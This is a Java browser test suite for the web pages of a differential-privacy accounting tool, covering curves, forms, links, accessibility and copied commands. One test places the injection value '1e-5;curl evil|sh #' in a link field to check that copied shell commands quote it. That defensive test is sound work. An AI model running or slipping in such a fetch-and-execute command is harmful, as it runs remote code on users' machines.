package io.sordino.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.sordino.account.Accountant;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The rooms in a real Chromium. Skipped where there is none, unless -Dsordino.browser=required. With
 * -Dsordino.screenshots=FOLDER pictures of the rooms are written there.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PageTest {
    private static final int WHOLE_PAGE = 10_000;

    private Optional<Server> server = Optional.empty();
    private Optional<Browser> opened = Optional.empty();

    @BeforeAll
    void start() throws Exception {
        Optional<Path> executable = Browser.installed();
        if ("required".equals(System.getProperty("sordino.browser")))
            assertThat(executable).as("a chromium on the path").isPresent();
        assumeTrue(executable.isPresent(), "there is no chromium on the path");
        server = Optional.of(
                new Server(Accountant.standard(), new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), "test"));
        server.get().warm();
        opened = Optional.of(new Browser(executable.orElseThrow()));
    }

    @AfterAll
    void stop() throws Exception {
        if (opened.isPresent()) opened.get().close();
        server.ifPresent(Server::close);
    }

    @BeforeEach
    void fresh() {
        browser().resize(1280, 900);
        browser().dark(false);
        browser().complaints();
        browser().requested();
    }

    /** Whatever a test did: a quiet console, and nothing from anywhere else. */
    @AfterEach
    void quietAndAlone() {
        assertThat(browser().complaints()).isEmpty();
        assertThat(browser().requested())
                .isNotEmpty()
                .allMatch(address -> address.startsWith(url()) || address.startsWith("about:"));
        assertThat(browser().value("document.body.dataset.failed ?? ''").asText())
                .isEmpty();
    }

    private Browser browser() {
        return opened.orElseThrow();
    }

    private String url() {
        return server.orElseThrow().url();
    }

    private static final String ANSWERED =
            "document.querySelector('#answers .big') && !document.querySelector('.stale')"
                    + " && document.querySelector('#plot').picture && document.querySelector('#proof li')";

    private void explorer(String state) {
        browser()
                .open(url() + "#s="
                        + URLEncoder.encode(state, StandardCharsets.UTF_8).replace("+", "%20"));
    }

    private JsonNode picture(String figure) {
        return browser().value("document.querySelector('" + figure + "').picture");
    }

    private String text(String selector) {
        return browser()
                .value("document.querySelector(" + Browser.quoted(selector) + ").textContent")
                .asText();
    }

    @Test
    void explorerAnswersWithBracketCurvesWordsAndProof() {
        browser().open(url());
        browser().await(ANSWERED);
        assertThat(text("#answers .big")).matches("\u03b5 = 1\\.13\\d+");
        assertThat(text("#answers")).contains("certified: between 1.13", "add-remove");
        assertThat(text("#statement")).contains("differentially private with epsilon at most 1.13");
        assertThat(text("#proof")).contains("ProductOfPairs", "PoissonSampling", "GaussianNoise", "epsilon before");
        browser().await("document.querySelector('#schemes table')");
        assertThat(text("#schemes"))
                .contains(
                        "no amplification",
                        "Poisson sampling",
                        "sampling without replacement",
                        "sampling with replacement",
                        "random allocation",
                        "shuffled batches")
                .doesNotContain("not covered");
    }

    @ParameterizedTest
    @ValueSource(strings = {"profile", "tradeoff", "loss", "epsilon-vs-steps", "epsilon-vs-noise"})
    void everyCurveHasThePointsOfTheApi(String what) {
        explorer("{\"plans\": [\"20 * gaussian(10)\", \"30 * laplace(20)\"], \"tab\": \"" + what
                + "\", \"delta\": \"1e-6\"}");
        browser().await(ANSWERED);
        JsonNode shown = picture("#plot");
        JsonNode asked = browser()
                .value("fetch('/v1/curves', {method: 'POST', body: JSON.stringify({what: '" + what
                        + "', plans: ['20 * gaussian(10)', '30 * laplace(20)'], delta: 1e-6})}).then(r => r.json())");
        assertThat(shown.path("series")).isEqualTo(asked.path("series"));
        int curves = what.equals("tradeoff") ? 3 : 2;
        assertThat(shown.path("series").size()).isEqualTo(curves);
        assertThat(browser()
                        .value("document.querySelectorAll('#plot > svg .line').length")
                        .asInt())
                .isEqualTo(curves);
        assertThat(browser()
                        .value("document.querySelector('#plot').textContent")
                        .asText())
                .contains("gaussian(", "laplace(");
    }

    /** A link is anybody's: what it puts into a field is a word for the shell, never a command. */
    @Test
    void copiedCommandsQuoteEveryField() {
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5;curl evil|sh #\"}");
        browser().await("document.querySelector('#delta-problem').textContent");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(copied()).contains("--delta '1e-5;curl evil|sh #'");
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5\"}");
        browser().await(ANSWERED);
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(copied()).as("control").endsWith("./sordino epsilon 'gaussian(2)' --delta 1e-5");
    }

    /** What was copied, or what the page asks to copy by hand. */
    private String copied() {
        return browser()
                .value("(t => t.dataset.copied ?? t.textContent)(document.querySelector('#toast'))")
                .asText();
    }

    @Test
    void aCopyThatFailsIsSaidToHaveFailed() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().value("navigator.clipboard.writeText = () => Promise.reject(new Error('no')), 1");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(text("#toast")).contains("did not let the page copy", "./sordino epsilon");
    }

    @Test
    void aDeltaThatNoDoubleHoldsIsNotZero() {
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-400\"}");
        browser().await("document.querySelector('#delta-problem').textContent");
        assertThat(text("#delta-problem")).contains("smaller than a double can hold");
        explorer("{\"plans\": [\"laplace(2)\"], \"delta\": \"0\"}");
        browser().await(ANSWERED);
        assertThat(text("#answers .big")).as("control").contains("0.5");
    }

    /** What is drawn is pale from the key on, not from the answer on. */
    @Test
    void whatIsOldIsPaleAtOnce() {
        explorer("{\"plans\": [\"gaussian(2)\"]}");
        browser().await(ANSWERED);
        assertThat(browser()
                        .value("(b => { b.value = 'gaussian(3)'; b.dispatchEvent(new Event('input'));"
                                + " return ['answers', 'plot', 'statement', 'proof'].map(i =>"
                                + " document.getElementById(i).classList.contains('stale')).join(); })"
                                + "(document.querySelector('#plan-0'))")
                        .asText())
                .isEqualTo("true,true,true,true");
        browser().await(ANSWERED);
    }

    @Test
    void warningsStandOnTheCard() {
        explorer("{\"plans\": [\"15 * shuffled_batches(235, gaussian(1.1))\", \"500 * gaussian(1)\"], \"active\": 1}");
        browser().await(ANSWERED);
        browser().await("document.querySelector('#answers .active .warning')");
        assertThat(browser()
                        .value("document.querySelector('#answers .active').textContent.includes("
                                + "document.querySelector('#answers .warning').textContent)")
                        .asBoolean())
                .isTrue();
    }

    @Test
    void aRefusedPlanLeavesTheOthersTheirWordsAndProofs() {
        explorer("{\"plans\": [\"gaussian(2)\", \"gausian(2)\"], \"active\": 1}");
        browser().await(ANSWERED);
        assertThat(text("#statement")).contains("About plan 1", "differentially private");
        assertThat(picture("#plot").path("series").size()).isEqualTo(1);
    }

    @Test
    void aQuestionMarkIsCalibrated() {
        explorer("{\"plans\": [\"1000 * gaussian(?)\"], \"target\": \"2\", \"delta\": \"1e-5\"}");
        browser().await(ANSWERED);
        assertThat(text("#answers .big")).startsWith("? = 63.05");
        assertThat(text("#answers")).contains("keeps \u03b5 \u2264 2");
        assertThat(picture("#plot").path("series").size()).isEqualTo(1);
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(copied()).contains("calibrate '1000 * gaussian(?)' --epsilon 2 --delta 1e-5");
    }

    @Test
    void picturesFollowTheSizeOfTheirPlace() {
        explorer("{\"plans\": [\"gaussian(2)\"]}");
        browser().await(ANSWERED);
        String box = "document.querySelector('#plot > svg').getAttribute('viewBox')";
        String wide = browser().value(box).asText();
        browser().resize(420, 900);
        browser().await(box + " !== '" + wide + "'");
        browser().resize(1280, 900);
        browser().await(box + " === '" + wide + "'");
    }

    /** A fifth of the reports is made up, and the bars must reach the truth all the same. */
    @Test
    void errorBarsHoldWhatCorruptClientsDo() {
        browser()
                .open(url() + "shuffle#s="
                        + URLEncoder.encode(
                                        "{\"clients\": 20000, \"corrupt\": 0.2, \"epsilon\": 4}",
                                        StandardCharsets.UTF_8)
                                .replace("+", "%20"));
        browser().await("document.querySelector('#histogram').picture");
        browser().click("#finish");
        browser().await("Number(document.querySelector('#stats').dataset.honest) > 10000");
        JsonNode shown = picture("#histogram");
        for (int i = 0; i < shown.path("truth").size(); i++)
            assertThat(Math.abs(shown.path("truth").path(i).asDouble()
                            - shown.path("estimates").path(i).asDouble()))
                    .isLessThan(shown.path("half").path(i).asDouble());
    }

    /** A plan that is far more private than its neighbours in the picture is still a curve there, not a dot. */
    @Test
    void profilesOfVeryDifferentPlansAreAllCurves() {
        explorer("{\"plans\": [\"10 * gaussian(1)\", \"shuffled(1000, local(1))\", \"laplace(20)\"]}");
        browser().await(ANSWERED);
        JsonNode series = picture("#plot").path("series");
        assertThat(series.size()).isEqualTo(3);
        for (JsonNode one : series)
            assertThat(one.path("x").size()).as(one.path("name").asText()).isGreaterThan(5);
    }

    @Test
    void curvesHaveTheColourOfTheirPlanWhateverElseIsDrawn() {
        explorer("{\"plans\": [\"gausian(2)\", \"gaussian(2)\", \"shuffled(1000, randomized_response(2))\"],"
                + " \"tab\": \"epsilon-vs-n\", \"active\": 2}");
        browser().await(ANSWERED);
        assertThat(browser()
                        .value(
                                "[...document.querySelectorAll('#plot > svg path.line')].map(e => e.getAttribute('class')).join()")
                        .asText())
                .isEqualTo("line k2");
        browser().click("#tab-profile");
        browser().await("document.querySelector('#plot').picture.series.length === 2");
        assertThat(browser()
                        .value(
                                "[...document.querySelectorAll('#plot > svg path.line')].map(e => e.getAttribute('class')).join()")
                        .asText())
                .isEqualTo("line k1,line k2");
    }

    @Test
    void reportsGoAgainstN() {
        explorer("{\"plans\": [\"shuffled(1000, randomized_response(2))\"], \"tab\": \"epsilon-vs-n\"}");
        browser().await(ANSWERED);
        assertThat(picture("#plot").path("x").path("name").asText()).isEqualTo("n");
        assertThat(text("#answers")).contains("replace-one");
    }

    @Test
    void errorsShowAtTheRightCharacter() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().fill("#plan-0", "500 * laplce(20)");
        browser().await("document.querySelector('#problem-0 pre')");
        assertThat(text("#problem-0 mark")).isEqualTo("l");
        assertThat(text("#problem-0 pre").lines().toList()).containsExactly("500 * laplce(20)", "      ^");
        assertThat(text("#problem-0")).contains("unknown plan 'laplce'", "did you mean laplace?");
        assertThat(browser()
                        .value("document.querySelector('#plan-0').getAttribute('aria-invalid')")
                        .asText())
                .isEqualTo("true");
        browser().fill("#plan-0", "500 * laplace(20)");
        browser().await("!document.querySelector('#problem-0').textContent && document.querySelector('#answers .big')");
        assertThat(text("#answers .big")).startsWith("\u03b5 = 4.9");
        browser().fill("#delta", "2");
        browser().await("document.querySelector('#delta-problem').textContent");
        assertThat(text("#delta-problem")).contains("delta must be in [0, 1)");
    }

    @Test
    void slidersFormsAndSchemesWriteThePlan() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().fill("#number-2", "2");
        browser().await("document.querySelector('#plan-0').value === '3516 * poisson(256/60000, gaussian(2))'");
        browser().fill("#form-kind", "shuffled");
        browser().await("document.querySelector('#plan-0').value === 'shuffled(10000, randomized_response(3))'");
        browser().fill("#form-n", "2000");
        browser().await("document.querySelector('#answers').textContent.includes('shuffled(2000')");
        Map<String, String> answered = Map.of(
                "sgd", "poisson(", "allocation", "allocated(1, 235", "convex", "last_iterate(", "query", "laplace(20)");
        answered.forEach((kind, part) -> {
            browser().fill("#form-kind", kind);
            browser().await(ANSWERED + " && document.querySelector('#answers').textContent.includes('" + part + "')");
            assertThat(text("#problem-0")).isEmpty();
            assertThat(text("#answers .big")).matches("\u03b5 [=\u2264] [\\d.]+");
        });
        browser().fill("#form-kind", "query");
        browser().fill("#form-scale", "twenty");
        assertThat(text("#form-problem")).isEqualTo("noise multiplier must be a number, such as 20");
        browser().await("document.querySelector('#schemes button')");
        browser().click("#schemes button");
        browser().await("document.querySelectorAll('#plans textarea').length === 2");
        browser().await(ANSWERED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "10000 * poisson(0.01, gaussian(1))",
                "500 * laplace(20)",
                "15 * allocated(1, 235, gaussian(1.1))",
                "shuffled(100000, randomized_response(4))"
            })
    void answersComeAsOneTypes(String plan) {
        browser().open(url());
        browser().await(ANSWERED);
        String typed = "(async () => { const times = []; const box = document.querySelector('#answers');"
                + " for (let k = 0; k < 40 && (k < 9 || Math.min(...times) >= 100); k++) {"
                + "  const shown = new Promise(done => { const seen = new MutationObserver(() => {"
                + "    if (!box.classList.contains('stale') || box.classList.contains('quick')) { seen.disconnect(); done(); } });"
                + "    seen.observe(box, {attributes: true}); });"
                + "  const area = document.querySelector('#plan-0'); const start = performance.now();"
                + "  area.value = " + Browser.quoted(plan) + " + ' '.repeat(k);"
                + "  area.dispatchEvent(new Event('input', {bubbles: true})); await shown;"
                + "  times.push(performance.now() - start); await new Promise(next => setTimeout(next, 150)); }"
                + " return times.sort((a, b) => a - b); })()";
        JsonNode times = browser().value(typed);
        System.out.println("from key to answer: " + Math.round(times.path(0).asDouble()) + " ms at best, "
                + Math.round(times.path(times.size() / 2).asDouble()) + " ms in the median: " + plan);
        // the best of them, and only where the machine is not given over to other work
        if (isIdle()) assertThat(times.path(0).asDouble()).isLessThan(100);
    }

    private static boolean isIdle() {
        double waiting = ManagementFactory.getOperatingSystemMXBean().getSystemLoadAverage();
        return waiting <= 2 * Runtime.getRuntime().availableProcessors();
    }

    @Test
    void phonesShowTheAnswerBelowThePlan() {
        browser().resize(390, 844);
        browser().open(url());
        browser().await(ANSWERED);
        assertThat(browser()
                        .value(
                                "[...document.querySelectorAll('main section h2')].slice(0, 3).map(e => e.textContent).join()")
                        .asText())
                .isEqualTo("Plans,Answer,What if?");
    }

    @Test
    void brokenLinksOpenTheRoomAllTheSame() {
        explorer(
                "{\"plans\": [3, null], \"form\": {\"n\": 5}, \"training\": {\"n\": [1], \"b\": null}, \"tab\": \"no\", \"active\": 9}");
        browser().await("document.querySelector('#problem-0').textContent");
        browser().fill("#plan-0", "gaussian(2)");
        browser().await(ANSWERED);
        browser().open(url() + "#s=%7Bnonsense");
        browser().await(ANSWERED);
        explorer(
                "{\"plans\": null, \"form\": null, \"training\": [], \"kind\": \"constructor\", \"width\": \"x\", \"relation\": \"y\"}");
        browser().await(ANSWERED);
    }

    @Test
    void linksOfRoomsAreKeptWithinTheirRanges() {
        String state = "#s=%7B%22clients%22%3A-5%2C%22answers%22%3A100%2C%22dropouts%22%3A7%2C%22epsilon%22%3A1e9%7D";
        browser().open(url() + "shuffle" + state);
        browser().await("document.querySelector('#curve').picture");
        assertThat(text("#problem")).isEmpty();
        browser().open(url() + "last-iterate#s=%7B%22steps%22%3A-3.5%2C%22place%22%3A0%2C%22order%22%3A%22no%22%7D");
        browser().await("document.querySelector('#epsilon').picture");
        assertThat(text("#stats")).contains("1 of 1");
        browser().open(url() + "last-iterate#s=%7B%22steps%22%3A10%2C%22place%22%3A50%7D");
        browser().await("document.querySelector('#epsilon').textContent.includes('costs nothing')");
        assertThat(text("#stats")).contains("0epsilon of the end");
    }

    @Test
    void linkRestoresEverything() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().fill("#plan-0", "3 * gaussian(4)");
        browser().click("#add");
        browser().fill("#plan-1", "7 * laplace(9)");
        browser().fill("#delta", "1/70000");
        browser().fill("#relation", "replace-one");
        browser().fill("#training-n", "5000");
        browser().click("#tab-loss");
        browser().await(ANSWERED);
        String before = browser().value("location.href").asText();
        String answers = text("#answers");
        browser().open(before);
        browser().await(ANSWERED);
        assertThat(text("#answers")).isEqualTo(answers);
        assertThat(browser()
                        .value("[...document.querySelectorAll('#plans textarea')].map(e => e.value).join()")
                        .asText())
                .isEqualTo("3 * gaussian(4),7 * laplace(9)");
        assertThat(browser().value("document.querySelector('#delta').value").asText())
                .isEqualTo("1/70000");
        assertThat(browser().value("document.querySelector('#relation').value").asText())
                .isEqualTo("replace-one");
        assertThat(browser()
                        .value("document.querySelector('#training-n').value")
                        .asText())
                .isEqualTo("5000");
        assertThat(browser()
                        .value("document.querySelector('#tab-loss').getAttribute('aria-selected')")
                        .asText())
                .isEqualTo("true");
        assertThat(browser().value("location.href").asText()).isEqualTo(before);
    }

    @Test
    void copiesAreTheCommandTheJavaAndTheEvent() {
        explorer("{\"plans\": [\"3 * gaussian(4)\"], \"relation\": \"replace-one\"}");
        browser().await(ANSWERED);
        // a browser without a window lets nobody copy
        browser().value("navigator.clipboard.writeText = () => Promise.resolve(), 1");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').dataset.copied");
        assertThat(browser()
                        .value("document.querySelector('#toast').dataset.copied")
                        .asText())
                .isEqualTo("./sordino epsilon '3 * gaussian(4)' --delta 1e-5 --relation replace-one");
        browser().click("#copy-java");
        browser().await("document.querySelector('#toast').dataset.copied.includes('Privacy')");
        assertThat(browser()
                        .value("document.querySelector('#toast').dataset.copied")
                        .asText())
                .contains("Privacy.of(\"3 * gaussian(4)\").under(Relation.REPLACE_ONE).within(0.001).epsilon(0.00001)");
        browser().click("#copy-json");
        browser().await("document.querySelector('#toast').dataset.copied.includes('SelfComposedDpEvent')");
    }

    @Test
    void keysMoveTabsAndReadCurves() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().value("document.querySelector('#tab-profile').focus()");
        browser().press("ArrowRight", 39);
        browser().await("document.activeElement.id === 'tab-tradeoff'");
        browser().await(ANSWERED + " && document.querySelector('#plot').picture.y.name === 'missed members'");
        browser().value("document.querySelector('#plot > svg').focus()");
        browser().press("End", 35);
        browser().await("document.querySelector('#plot .readout').textContent.startsWith('false accusations 1:')");
    }

    @Test
    void reportsArriveAndCentralEpsilonFalls() {
        browser().open(url() + "shuffle");
        browser().await("document.querySelector('#curve').picture");
        double before = Double.parseDouble(browser()
                .value("document.querySelector('#stats').dataset.central")
                .asText());
        assertThat(before).isEqualTo(2);
        browser().click("#run");
        browser().await("Number(document.querySelector('#stats').dataset.honest) > 50");
        browser().click("#finish");
        browser().await("Number(document.querySelector('#stats').dataset.honest) > 4000");
        double after = Double.parseDouble(browser()
                .value("document.querySelector('#stats').dataset.central")
                .asText());
        assertThat(after).isLessThan(before / 4);
        JsonNode histogram = picture("#histogram");
        double sum = 0;
        for (JsonNode share : histogram.path("estimates")) sum += share.doubleValue();
        assertThat(sum).isBetween(0.999, 1.001);
        // the corrupt send the last answer: it is overstated
        assertThat(histogram.path("estimates").path(3).doubleValue())
                .isGreaterThan(histogram.path("truth").path(3).doubleValue());
        // noise alone is below 0.05; what the corrupt may add is in the bar too
        assertThat(histogram.path("half").path(0).doubleValue()).isBetween(0.05, 0.15);
        browser().fill("#dropouts", "0.5");
        browser().await("Number(document.querySelector('#stats').dataset.honest) < 3000");
        assertThat(browser().value("location.hash").asText()).contains("dropouts%22%3A0.5");
    }

    /** Whoever leaves or is corrupt hides nobody: fewer honest reports, a larger epsilon, and the accountant's own. */
    @Test
    void dropOutsAndCorruptClientsRaiseCentralEpsilonToTheAccountants() {
        browser().open(url() + "shuffle");
        browser().await("document.querySelector('#curve').picture");
        browser().click("#finish");
        double before = 0;
        int reports = 5000;
        for (String[] slider : new String[][] {{"#dropouts", "0"}, {"#dropouts", "0.4"}, {"#corrupt", "0.4"}}) {
            browser().fill(slider[0], slider[1]);
            browser().await("Number(document.querySelector('#stats').dataset.honest) < " + reports);
            reports = browser()
                    .value("Number(document.querySelector('#stats').dataset.honest)")
                    .asInt();
            JsonNode bracket = browser()
                    .value("fetch('/v1/epsilon', {method: 'POST', body: JSON.stringify({plan: 'shuffled(" + reports
                            + ", randomized_response(2, k=4))', delta: 1e-6, width: 1e-2})}).then(r => r.json())")
                    .path("epsilon");
            double upper = bracket.path("upper").doubleValue();
            browser().await("Number(document.querySelector('#stats').dataset.central) === " + upper);
            assertThat(upper).as(slider[0] + " " + slider[1]).isGreaterThan(before);
            before = upper;
        }
    }

    @Test
    void aServerThatIsGoneIsSaidSo() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().value("(window.kept = window.fetch, window.fetch = () => Promise.reject(new TypeError('gone')), 1)");
        browser().fill("#plan-0", "3 * gaussian(4)");
        browser().await("document.querySelector('#unreachable')?.textContent.includes('sordino serve')");
        browser().value("(window.fetch = window.kept, 1)");
        browser().fill("#plan-0", "4 * gaussian(4)");
        browser().await(ANSWERED + " && !document.querySelector('#unreachable').textContent");
        browser().value("delete document.body.dataset.failed");
    }

    /** A row of the comparison and what it puts among the plans are the same question. */
    @ParameterizedTest
    @ValueSource(strings = {"no amplification, replace-one", "sampling without replacement, replace-one"})
    void rowsOfTheComparisonAreTakenOverWithTheirNeighbours(String row) {
        browser().open(url());
        browser().await(ANSWERED + " && document.querySelector('#schemes button')");
        String button = "document.querySelector('#schemes [aria-label=\"Use the plan: " + row + "\"]')";
        double promised = browser()
                .value("Number(" + button + ".closest('tr').querySelector('.number').textContent)")
                .asDouble();
        browser().value(button + ".click()");
        browser().await("document.querySelector('.answer.c1 .big') && !document.querySelector('.stale')");
        assertThat(text(".answer.c1")).contains("replace-one");
        double shown = browser()
                .value("Number(document.querySelector('.answer.c1 .big').textContent.slice(4))")
                .asDouble();
        assertThat(shown).isBetween(promised * 0.998, promised * 1.0001);
        assertThat(browser()
                        .value("document.querySelectorAll('#schemes button').length")
                        .asInt())
                .isGreaterThan(6);
    }

    @Test
    void formsRefuseWhatTheyCannotMean() {
        browser().open(url());
        browser().await(ANSWERED);
        browser().fill("#form-epochs", "0");
        assertThat(text("#form-problem")).isEqualTo("epochs must be a number above 0, such as 15");
        browser().fill("#form-kind", "shuffled");
        browser().fill("#form-k", "1");
        browser().await("document.querySelector('#problem-0').textContent");
        assertThat(browser().value("document.querySelector('#plan-0').value").asText())
                .isEqualTo("shuffled(10000, randomized_response(3, k=1))");
        browser().fill("#training-n", "many");
        browser().await("document.querySelector('#schemes').textContent === 'records must be a number, such as 60000'");
    }

    @Test
    void earlyRecordsFadeAndTheEndSaysLittle() {
        browser().open(url() + "last-iterate");
        browser().await("document.querySelector('#epsilon').picture && document.querySelector('#position').picture");
        JsonNode distance = picture("#distance").path("series").path(0).path("upper");
        assertThat(distance.size()).isEqualTo(101);
        assertThat(distance.path(19).doubleValue()).isZero();
        assertThat(distance.path(20).doubleValue()).isGreaterThan(0.1);
        assertThat(distance.path(100).doubleValue()).isLessThan(0.01);
        JsonNode epsilon = picture("#epsilon").path("series");
        int last = epsilon.path(0).path("upper").size() - 1;
        assertThat(epsilon.path(0).path("upper").path(last).doubleValue())
                .isLessThan(epsilon.path(1).path("upper").path(last).doubleValue() / 10);
        JsonNode places = picture("#position").path("series").path(0).path("upper");
        assertThat(places.path(0).doubleValue())
                .isLessThan(places.path(places.size() - 1).doubleValue());
        browser().fill("#order", "full");
        browser().await("document.querySelector('#plan').textContent.startsWith('last_iterate(steps=100,')");
        browser().click("#run");
        browser().click("#finish");
        assertThat(text("#stats")).contains("100 of 100");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "shuffle", "last-iterate"})
    void accessibilityHasNoSeriousFinding(String room) throws IOException {
        for (boolean dark : List.of(false, true)) {
            browser().dark(dark);
            browser().open(url() + room);
            browser().await("document.querySelector('figure#plot, figure#curve, figure#epsilon').picture");
            browser().await("!document.querySelector('.stale')");
            browser().value("document.querySelectorAll('details').forEach(one => one.open = true)");
            assertThat(seriousFindings()).as(room + (dark ? " dark" : " light")).isEmpty();
        }
    }

    @Test
    void accessibilityHoldsWhereAPlanIsWrong() throws IOException {
        explorer("{\"plans\": [\"gaussian(2)\", \"3 * gausian(2)\"], \"active\": 1}");
        browser().await("document.querySelector('#problem-1').textContent && document.querySelector('#plot').picture");
        browser().await("!document.querySelector('.stale')");
        // a refused plan silences nobody: the proof of the other one stands
        assertThat(text("#proof")).startsWith("gaussian(2) epsilon");
        assertThat(seriousFindings()).isEmpty();
        browser().fill("#delta", "none");
        browser().await("document.querySelector('#answers').textContent === 'Waiting for a delta.'");
        assertThat(seriousFindings()).isEmpty();
    }

    /** What is out of date is pale on purpose, and inactive: it is left out. */
    private JsonNode seriousFindings() throws IOException {
        browser().value(axe());
        return browser()
                .value("axe.run({exclude: [['.stale']]}, {resultTypes: ['violations']}).then(r => r.violations"
                        + ".filter(v => v.impact === 'serious' || v.impact === 'critical')"
                        + ".map(v => v.id + ': ' + v.nodes.map(n => n.html.slice(0, 120)).join(' | ')))");
    }

    private static String axe() throws IOException {
        try (InputStream in = Objects.requireNonNull(PageTest.class.getResourceAsStream("/axe.min.js"))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8) + "; true";
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "shuffle", "last-iterate"})
    void phonesNeedNoSidewaysScrolling(String room) {
        browser().resize(360, 740);
        browser().open(url() + room);
        browser().await("!document.querySelector('.stale') && document.querySelector('figure svg, canvas')");
        assertThat(browser().value("document.documentElement.scrollWidth").asInt())
                .isLessThanOrEqualTo(360);
    }

    @Test
    void pageIsSmallAndPaintsSoon() {
        browser().open(url());
        browser().await(ANSWERED);
        int bytes = browser()
                .value("performance.getEntriesByType('resource').concat(performance.getEntriesByType('navigation'))"
                        + ".filter(e => !e.name.includes('/v1/')).reduce((sum, e) => sum + e.transferSize, 0)")
                .asInt();
        double paint = browser()
                .value("performance.getEntriesByName('first-contentful-paint')[0].startTime")
                .asDouble();
        System.out.println("page: " + bytes + " bytes, first paint after " + Math.round(paint) + " ms");
        assertThat(bytes).isBetween(1000, 150_000);
    }

    @Test
    void screenshotsAreWrittenWhereAsked() throws IOException {
        browser().open(url());
        browser().await(ANSWERED);
        Optional<String> folder = Optional.ofNullable(System.getProperty("sordino.screenshots"));
        if (folder.isEmpty()) {
            assertThat(browser().screenshot(WHOLE_PAGE)).startsWith('R', 'I', 'F', 'F');
            return;
        }
        Path target = Files.createDirectories(Path.of(folder.get()));
        browser().resize(1280, 1000);
        explorer("{\"plans\": [\"1000 * poisson(0.01, gaussian(1))\", \"500 * laplace(20)\"], \"delta\": \"1e-6\"}");
        browser().await(ANSWERED + " && document.querySelector('#schemes table')");
        Files.write(target.resolve("explorer.webp"), browser().screenshot(WHOLE_PAGE));
        browser().dark(true);
        browser().open(url() + "shuffle");
        browser().await("document.querySelector('#curve').picture");
        browser().click("#run");
        browser().await("Number(document.querySelector('#stats').dataset.honest) > 1500");
        Files.write(target.resolve("shuffle-room.webp"), browser().screenshot(WHOLE_PAGE));
        browser().dark(false);
        browser().open(url() + "last-iterate");
        browser().await("document.querySelector('#epsilon').picture && document.querySelector('#position').picture");
        browser().await("!document.querySelector('.stale')");
        Files.write(target.resolve("last-iterate-room.webp"), browser().screenshot(WHOLE_PAGE));
        browser().resize(390, 844);
        browser().open(url());
        browser().await(ANSWERED);
        Files.write(target.resolve("explorer-phone.webp"), browser().screenshot(1700));
    }
}
